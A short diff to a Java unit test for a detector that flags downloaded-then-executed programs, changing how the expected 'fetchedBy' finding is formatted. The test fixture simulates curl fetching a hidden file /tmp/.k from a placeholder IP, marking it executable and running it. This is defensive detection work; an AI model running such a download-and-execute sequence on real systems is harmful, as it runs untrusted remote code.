@@ -59,7 +59,7 @@ final class DownloadedProgramDetectorTest implements DetectorContract {
         shell.starts("/bin/chmod", "chmod", "+x", "/tmp/.k");
         shell.starts("/tmp/.k", "/tmp/.k");
         assertThatFindings(findings())
-                .show(ID, "fetchedBy", curl.pid() + " curl -o /tmp/.k http://203.0.113.9/k")
+                .show(ID, "fetchedBy", "curl -o /tmp/.k http://203.0.113.9/k (" + curl.pid() + ")")
                 .show(ID, "program", "/tmp/.k");
     }
 
